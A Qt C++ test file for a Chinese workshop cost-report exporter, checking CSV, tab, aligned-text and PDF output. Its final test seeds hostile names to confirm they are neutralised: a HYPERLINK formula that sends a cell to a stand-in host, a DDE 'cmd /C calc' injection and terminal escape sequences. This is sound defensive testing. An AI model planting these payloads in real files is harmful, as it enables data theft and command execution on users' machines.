#include "Database.h"
#include "PrintDBGridEh.h"
#include "ReportExport.h"
#include "ReportFixture.h"
#include "ReportModel.h"
#include "ReportStatements.h"
#include "TestDatabase.h"

#include <QBuffer>
#include <QPdfWriter>
#include <QProcess>
#include <QRegularExpression>
#include <QtTest>
#include <csignal>
#include <memory>
#include <sys/resource.h>

using ReportStatements::Kind;

class TstReportExport : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void cleanup();
    void tabSeparatedText();
    void csvWithByteOrderMark();
    void csvQuotesFields();
    void exactAmounts();
    void alignedTable();
    void pdfPages();
    void formatFromSuffix_data();
    void formatFromSuffix();
    void failedWriteKeepsOldFile();
    void unwritablePathIsReported();
    void hostileNamesStayText_data();
    void hostileNamesStayText();

private:
    QByteArray written(ReportExport::Format format) const;

    std::unique_ptr<TestDatabase> m_db;
    std::unique_ptr<ReportModel> m_model;
    ReportExport::Document m_doc;
};

namespace {

const QStringList Titles = { "班组名称", "表编号", "表类别", "使用数量", "费用统计(元)|总费用", "费用统计(元)|计划内费用",
                             "费用统计(元)|超支费用", "费用统计(元)|限额费用", "单价(元)|单价", "单价(元)|超出部分单价",
                             "最后抄表数", "安装基数", "附加数量", "倍率" };
const QStringList W1 = { "车工班", "W1", "水表", "160", "468.75", "225.00", "243.75", "300.00", "2.5000", "3.7500",
                         "260", "100", "6", "1" };
const QStringList E1 = { "钳工班", "E1", "电表", "4000", "2538.40", "500.00", "2038.40", "500.00", "0.6500", "0.9800",
                         "5100", "5000", "0", "40" };
const QStringList Footer = { "统计", "", "", "4160", "3007.15", "725.00", "2282.15", "800.00", "3.1500", "4.7300",
                             "5360", "5100", "6", "41" };
const char Bom[] = "\xEF\xBB\xBF";

}

void TstReportExport::init()
{
    m_db = std::make_unique<TestDatabase>();
    const ReportFixture::Ids ids = ReportFixture::fill(*m_db);
    m_model = std::make_unique<ReportModel>();
    m_model->setColumns(ReportStatements::columns(Kind::Detail));
    m_model->open(ReportStatements::statement(Kind::Detail),
                  ReportStatements::params(QDate(2024, 7, 1), QDate(2024, 7, 31), ids.machining),
                  Database::mainConnectionName());
    m_doc = {};
    m_doc.title = QStringLiteral("车间明细报表");
    m_doc.periodLine = QStringLiteral("车间：机加工车间   报表时间：自 2024-07-01 至 2024-07-31");
    m_doc.model = m_model.get();
}

void TstReportExport::cleanup()
{
    m_model.reset();
    m_db.reset();
}

QByteArray TstReportExport::written(ReportExport::Format format) const
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    ReportExport::write(buffer, format, m_doc);
    return buffer.data();
}

void TstReportExport::tabSeparatedText()
{
    const QByteArray data = written(ReportExport::Format::Tabbed);
    QVERIFY(data.startsWith(Bom));
    const QStringList expected = { m_doc.title, m_doc.periodLine, Titles.join(u'\t'), W1.join(u'\t'), E1.join(u'\t'),
                                   Footer.join(u'\t'), QString() };
    QCOMPARE(QString::fromUtf8(data.mid(3)).split(u'\n'), expected);
}

void TstReportExport::csvWithByteOrderMark()
{
    const QByteArray data = written(ReportExport::Format::Csv);
    QVERIFY(data.startsWith(Bom));
    const QStringList expected = { m_doc.title, m_doc.periodLine, Titles.join(u','), W1.join(u','), E1.join(u','),
                                   Footer.join(u','), QString() };
    QCOMPARE(QString::fromUtf8(data.mid(3)).split(QStringLiteral("\r\n")), expected);
}

void TstReportExport::csvQuotesFields()
{
    m_doc.title = QStringLiteral("报表 \"七月\", 二〇二四");
    m_doc.byteOrderMark = false;
    const QString first = QString::fromUtf8(written(ReportExport::Format::Csv)).section(QStringLiteral("\r\n"), 0, 0);
    QCOMPARE(first, QStringLiteral("\"报表 \"\"七月\"\", 二〇二四\""));
}

void TstReportExport::exactAmounts()
{
    m_doc.amounts = ReportModel::Amounts::Exact;
    m_doc.heading = false;
    m_doc.byteOrderMark = false;
    const QStringList lines = QString::fromUtf8(written(ReportExport::Format::Csv)).split(QStringLiteral("\r\n"));
    QCOMPARE(lines.value(0), Titles.join(u','));
    QCOMPARE(lines.value(1), QStringLiteral("车工班,W1,水表,160,468.7500,225.0000,243.7500,300.0000,2.5000,3.7500,260,100,6,1"));
    QCOMPARE(lines.value(3),
             QStringLiteral("统计,,,4160,3007.1500,725.0000,2282.1500,800.0000,3.1500,4.7300,5360,5100,6,41"));
    QCOMPARE(lines.size(), 5);
}

void TstReportExport::alignedTable()
{
    m_doc.byteOrderMark = false;
    const QStringList lines = QString::fromUtf8(written(ReportExport::Format::Aligned)).split(u'\n');
    QCOMPARE(lines.mid(0, 3), (QStringList{ m_doc.title, m_doc.periodLine, QString() }));
    const QString rule = lines.at(4);
    QVERIFY(rule.startsWith(QStringLiteral("--------  ------  ")));
    // Every column starts where its rule does, counting wide characters as two.
    QList<int> starts{ 0 };
    for (int i = 1; i < rule.size(); ++i)
        if (rule.at(i) == u'-' && rule.at(i - 1) == u' ')
            starts << i;
    QCOMPARE(starts.size(), Titles.size());
    auto cellAt = [](const QString &line, int column) {
        int width = 0;
        for (int i = 0; i < line.size(); ++i) {
            if (width == column)
                return line.mid(i).section(QStringLiteral("  "), 0, 0).trimmed();
            width += ReportExport::displayWidth(line.at(i));
        }
        return QStringLiteral("<misaligned>");
    };
    const QList<QPair<int, QStringList>> checked = { { 3, Titles }, { 5, W1 }, { 6, E1 } };
    for (const auto &[line, cells] : checked)
        for (int c = 0; c < 3; ++c)
            QCOMPARE(cellAt(lines.at(line), starts.at(c)), cells.at(c));
    QCOMPARE(lines.at(8).section(u' ', 0, 0), QStringLiteral("统计"));
    QVERIFY(lines.at(8).contains(QStringLiteral("3007.15")));
}

void TstReportExport::pdfPages()
{
    const QByteArray data = written(ReportExport::Format::Pdf);
    QVERIFY(data.startsWith("%PDF"));
    static const QRegularExpression page(QStringLiteral("/Type\\s*/Page[^s]"));
    int pages = 0;
    for (auto it = page.globalMatch(QString::fromLatin1(data)); it.hasNext(); it.next())
        ++pages;
    TPrintDBGridEh printer;
    printer.setGrid(m_model.get());
    printer.setPageHeaderCenterText({ m_doc.title });
    printer.setBeforeGridText({ m_doc.periodLine });
    QBuffer sink;
    sink.open(QIODevice::WriteOnly);
    QPdfWriter writer(&sink);
    writer.setPageSize(QPageSize(QPageSize::A4));
    printer.setupDevice(&writer);
    QCOMPARE(pages, printer.pageCount(&writer));
    QCOMPARE(pages, 1);   // fourteen columns as wide as their figures fit one portrait page

    // The text layer holds every name, number and figure as printed: 车工班, not ⻋工班.
    QTemporaryDir dir;
    QFile pdf(dir.filePath(QStringLiteral("detail.pdf")));
    QVERIFY(pdf.open(QIODevice::WriteOnly));
    pdf.write(data);
    pdf.close();
    QProcess pdftotext;
    pdftotext.start(QStringLiteral("pdftotext"), { QStringLiteral("-layout"), pdf.fileName(), QStringLiteral("-") });
    QVERIFY2(pdftotext.waitForFinished(30000) && pdftotext.exitCode() == 0, "pdftotext (poppler-utils) is needed");
    const QStringList lines = QString::fromUtf8(pdftotext.readAllStandardOutput()).split(u'\n');
    static const QRegularExpression blanks(QStringLiteral("\\s+"));
    QList<QStringList> printed;
    for (const QString &line : lines)
        printed << line.split(blanks, Qt::SkipEmptyParts);
    for (QStringList expected : { W1, E1, Footer }) {
        expected.removeAll(QString());
        QVERIFY2(printed.contains(expected), qPrintable(expected.join(u' ')));
    }
    QVERIFY(lines.first().contains(QStringLiteral("车间明细报表")));
    QVERIFY(!lines.join(u'\n').contains(u'…'));
}

void TstReportExport::formatFromSuffix_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<int>("format");
    QTest::newRow("txt") << QStringLiteral("a/b.txt") << int(ReportExport::Format::Tabbed);
    QTest::newRow("CSV in capitals") << QStringLiteral("b.CSV") << int(ReportExport::Format::Csv);
    QTest::newRow("pdf") << QStringLiteral("c.pdf") << int(ReportExport::Format::Pdf);
    QTest::newRow("other suffix: the chosen type") << QStringLiteral("d.dat") << int(ReportExport::Format::Aligned);
}

void TstReportExport::formatFromSuffix()
{
    QFETCH(QString, path);
    QFETCH(int, format);
    QCOMPARE(int(ReportExport::formatForFile(path, ReportExport::Format::Aligned)), format);
}

void TstReportExport::failedWriteKeepsOldFile()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("report.csv"));
    QFile old(path);
    QVERIFY(old.open(QIODevice::WriteOnly));
    old.write("old report");
    old.close();
    // Files may grow to 200 bytes only: the report's 500 cannot be written.
    rlimit before{};
    QCOMPARE(getrlimit(RLIMIT_FSIZE, &before), 0);
    rlimit limit = before;
    limit.rlim_cur = 200;
    const auto signal = std::signal(SIGXFSZ, SIG_IGN);
    QCOMPARE(setrlimit(RLIMIT_FSIZE, &limit), 0);
    const QString failure = ReportExport::writeFile(path, ReportExport::Format::Csv, m_doc);
    setrlimit(RLIMIT_FSIZE, &before);
    std::signal(SIGXFSZ, signal);
    QVERIFY(!failure.isEmpty());
    QVERIFY(old.open(QIODevice::ReadOnly));
    QCOMPARE(old.readAll(), QByteArray("old report"));
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files), QStringList{ QStringLiteral("report.csv") });
}

void TstReportExport::unwritablePathIsReported()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("missing/report.txt"));
    QVERIFY(!ReportExport::writeFile(path, ReportExport::Format::Tabbed, m_doc).isEmpty());
    QVERIFY(!QFileInfo::exists(path));
    QVERIFY(ReportExport::writeFile(dir.filePath(QStringLiteral("report.txt")), ReportExport::Format::Tabbed, m_doc)
                .isEmpty());
}

void TstReportExport::hostileNamesStayText_data()
{
    QTest::addColumn<int>("format");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("mustNotContain");
    const QString formula = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&E2,\"车工班\")");
    QTest::newRow("csv, quoted formula") << int(ReportExport::Format::Csv) << formula << QStringLiteral("\r\n\"=HYPERLINK");
    QTest::newRow("tab-separated, formula") << int(ReportExport::Format::Tabbed) << formula << QStringLiteral("\n=HYPERLINK");
    QTest::newRow("csv, command") << int(ReportExport::Format::Csv) << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0")
                                  << QStringLiteral("\r\n@SUM");
    // On a terminal, an escape sequence in a name hides every figure after it; a carriage return
    // writes the rest of the row over the name.
    QTest::newRow("terminal, hidden text") << int(ReportExport::Format::Aligned) << QStringLiteral("车工班\x1b[8m")
                                           << QStringLiteral("\x1b");
    QTest::newRow("terminal, carriage return") << int(ReportExport::Format::Aligned)
                                               << QStringLiteral("车工班\r钳工班  E1  电表  1") << QStringLiteral("\r");
}

// A name stored by a careless or hostile hand is written as text: a spreadsheet opening the export
// does not run it as a formula, and a terminal showing the text report does not obey it.
void TstReportExport::hostileNamesStayText()
{
    QFETCH(int, format);
    QFETCH(QString, name);
    QFETCH(QString, mustNotContain);
    execSql(m_db->db(), QStringLiteral("UPDATE Workshop SET WrokShopName = ? WHERE WrokShopName = '车工班'"), { name });
    m_model->open(ReportStatements::statement(Kind::Detail),
                  ReportStatements::params(QDate(2024, 7, 1), QDate(2024, 7, 31),
                                           m_db->scalar(QStringLiteral("SELECT WrokShopID FROM Workshop WHERE WrokShopName = '机加工车间'")).toLongLong()),
                  Database::mainConnectionName());
    QVERIFY(m_model->index(0, 0).data().toString() == name || m_model->index(1, 0).data().toString() == name);
    const QString text = QString::fromUtf8(written(ReportExport::Format(format)));
    QVERIFY(!text.contains(mustNotContain));
}

QTEST_MAIN(TstReportExport)
#include "tst_ReportExport.moc"
